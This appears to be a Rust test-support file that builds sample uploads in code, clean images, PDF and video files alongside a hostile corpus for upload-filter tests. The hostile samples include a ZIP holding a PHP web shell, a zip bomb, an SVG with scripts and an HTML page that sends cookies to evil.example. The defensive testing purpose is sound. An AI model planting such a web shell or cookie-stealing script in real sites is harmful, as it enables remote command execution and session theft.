//! Upload samples built in code (no binary files in the repository): clean minimal files
//! of every accepted type, and the hostile corpus — polyglots, archives, a zip bomb,
//! programs and web pages in disguise. Shared by the upload tests.

#![allow(dead_code)]

/// CRC-32 (the PNG and ZIP one).
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// Appends a PNG chunk (length, type, data, CRC).
pub fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend((data.len() as u32).to_be_bytes());
    let start = out.len();
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let crc = crc32(&out[start..]);
    out.extend(crc.to_be_bytes());
}

/// A complete 1×1 PNG whose text chunk carries `tag` (so different tags are different
/// files), with `extra` chunks before the image data.
pub fn png_with(tag: &str, extra: &[(&[u8; 4], &[u8])]) -> Vec<u8> {
    let mut b = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    png_chunk(&mut b, b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
    let mut text = b"Comment\0".to_vec();
    text.extend_from_slice(tag.as_bytes());
    png_chunk(&mut b, b"tEXt", &text);
    for (kind, data) in extra {
        png_chunk(&mut b, kind, data);
    }
    // zlib: one stored block holding the scanline (filter 0, then one RGB pixel).
    png_chunk(
        &mut b,
        b"IDAT",
        &[
            0x78, 0x01, 0x01, 0x04, 0x00, 0xFB, 0xFF, 0, 176, 122, 70, 0x03, 0x4E, 0x01, 0x71,
        ],
    );
    png_chunk(&mut b, b"IEND", &[]);
    b
}

/// A complete PNG carrying `tag`.
pub fn png(tag: &str) -> Vec<u8> {
    png_with(tag, &[])
}

/// A JPEG segment: marker and length-prefixed data.
fn segment(out: &mut Vec<u8>, marker: u8, data: &[u8]) {
    out.extend_from_slice(&[0xFF, marker]);
    out.extend(((data.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(data);
}

/// A complete small JPEG (JFIF header, a comment carrying `tag`, tables, one scan with a
/// stuffed byte and a restart marker, end marker).
pub fn jpeg(tag: &str) -> Vec<u8> {
    jpeg_with(tag, &[])
}

/// A JPEG with extra segments (marker, data) after the JFIF header.
pub fn jpeg_with(tag: &str, extra: &[(u8, &[u8])]) -> Vec<u8> {
    let mut b = vec![0xFF, 0xD8];
    segment(&mut b, 0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
    for (marker, data) in extra {
        segment(&mut b, *marker, data);
    }
    segment(&mut b, 0xFE, tag.as_bytes());
    let mut dqt = vec![0u8];
    dqt.extend_from_slice(&[1; 64]);
    segment(&mut b, 0xDB, &dqt);
    segment(&mut b, 0xC0, &[8, 0, 1, 0, 1, 1, 1, 0x11, 0]);
    segment(
        &mut b,
        0xC4,
        &[0x00, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    );
    segment(&mut b, 0xDA, &[1, 1, 0, 0, 0x3F, 0]);
    b.extend_from_slice(&[0x12, 0x34, 0xFF, 0x00, 0x56, 0xFF, 0xD0, 0x78, 0x9A]);
    b.extend_from_slice(&[0xFF, 0xD9]);
    b
}

/// A phone-style photo: an EXIF segment holding a thumbnail (a whole JPEG, end marker
/// and all) and a second image after the first (multi-picture format).
pub fn phone_jpeg() -> Vec<u8> {
    let mut exif = b"Exif\0\0MM\0\x2A\0\0\0\x08".to_vec();
    exif.extend_from_slice(&jpeg("thumbnail"));
    let mut b = jpeg_with("main", &[(0xE1, &exif), (0xE2, b"MPF\0MM\0\x2A\0\0\0\x08")]);
    b.extend_from_slice(&jpeg("depth map"));
    b
}

/// A WebP (lossless header only): RIFF size equal to the length less eight.
pub fn webp() -> Vec<u8> {
    let payload = b"VP8L\x05\0\0\0\x2F\0\0\0\0\0";
    let mut b = b"RIFF".to_vec();
    b.extend(((4 + payload.len()) as u32).to_le_bytes());
    b.extend_from_slice(b"WEBP");
    b.extend_from_slice(payload);
    b
}

/// A one-page PDF; `body` goes into the catalogue dictionary.
pub fn pdf_with(body: &str) -> Vec<u8> {
    format!(
        "%PDF-1.7\n%\u{E2}\u{E3}\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {body} >>\nendobj\n\
         2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n\
         3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n\
         trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    .into_bytes()
}

/// A clean PDF (it opens at page one: an open action that is not a script).
pub fn pdf() -> Vec<u8> {
    pdf_with("/OpenAction [3 0 R /Fit]")
}

/// An MP4 (or, with brand `qt  `, a MOV): ftyp, free, mdat, moov boxes end to end.
pub fn video(brand: &[u8; 4]) -> Vec<u8> {
    let mut b = b"\0\0\0\x18ftyp".to_vec();
    b.extend_from_slice(brand);
    b.extend_from_slice(b"\0\0\x02\0isommp41");
    b.extend_from_slice(b"\0\0\0\x08free");
    b.extend_from_slice(b"\0\0\0\x10mdat\x01\x02\x03\x04\x05\x06\x07\x08");
    b.extend_from_slice(b"\0\0\0\x10moov\0\0\0\x08mvhd");
    b
}

/// A ZIP archive with one entry: `method` 0 (stored) or 8 (deflated), `data` as stored,
/// and the uncompressed size it claims.
pub fn zip_entry(name: &str, method: u16, data: &[u8], claimed: u32) -> Vec<u8> {
    let crc = crc32(data);
    let header = |sig: &[u8], central: bool| {
        let mut h = sig.to_vec();
        if central {
            h.extend(20u16.to_le_bytes()); // made by
        }
        h.extend(20u16.to_le_bytes()); // version needed
        h.extend(0u16.to_le_bytes()); // flags
        h.extend(method.to_le_bytes());
        h.extend([0, 0, 0x21, 0x5A]); // time, date
        h.extend(crc.to_le_bytes());
        h.extend((data.len() as u32).to_le_bytes());
        h.extend(claimed.to_le_bytes());
        h.extend((name.len() as u16).to_le_bytes());
        h.extend(0u16.to_le_bytes()); // extra
        if central {
            h.extend([0u8; 8]); // comment, disk, attributes
            h.extend(0u32.to_le_bytes()); // external attributes
            h.extend(0u32.to_le_bytes()); // local header offset
        }
        h.extend_from_slice(name.as_bytes());
        h
    };
    let mut z = header(b"PK\x03\x04", false);
    z.extend_from_slice(data);
    let cd = z.len() as u32;
    z.extend(header(b"PK\x01\x02", true));
    let cd_size = z.len() as u32 - cd;
    z.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    z.extend(cd_size.to_le_bytes());
    z.extend(cd.to_le_bytes());
    z.extend_from_slice(b"\0\0");
    z
}

/// A ZIP holding a web shell.
pub fn zip() -> Vec<u8> {
    zip_entry("shell.php", 0, b"<?php system($_GET['c']); ?>", 29)
}

/// A zip bomb: a few bytes of deflate (a run of zeros) whose entry claims 4 GB.
pub fn zip_bomb() -> Vec<u8> {
    // Fixed-Huffman deflate blocks of long zero runs would do; the checks never inflate,
    // so a short valid-looking stream and the claimed size are all that matter.
    zip_entry(
        "zeros.bin",
        8,
        &[
            0x63, 0x60, 0x18, 0x05, 0xA3, 0x60, 0x14, 0x0C, 0x77, 0x00, 0x00,
        ],
        u32::MAX,
    )
}

/// A gzip stream.
pub fn gzip() -> Vec<u8> {
    b"\x1F\x8B\x08\x00\x00\x00\x00\x00\x00\x03\x4B\x4C\x4A\x06\x00\xC2\x41\x24\x35\x03\x00\x00\x00"
        .to_vec()
}

/// A Windows program's first bytes.
pub fn exe() -> Vec<u8> {
    let mut b = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF".to_vec();
    b.resize(128, 0);
    b.extend_from_slice(b"This program cannot be run in DOS mode.");
    b
}

/// An SVG with a script.
pub fn svg() -> Vec<u8> {
    b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('/api/auth/me')\"><script>alert(document.domain)</script></svg>".to_vec()
}

/// A web page.
pub fn html() -> Vec<u8> {
    b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>".to_vec()
}

/// `a` then `b`.
pub fn cat(a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut v = a.to_vec();
    v.extend_from_slice(b);
    v
}
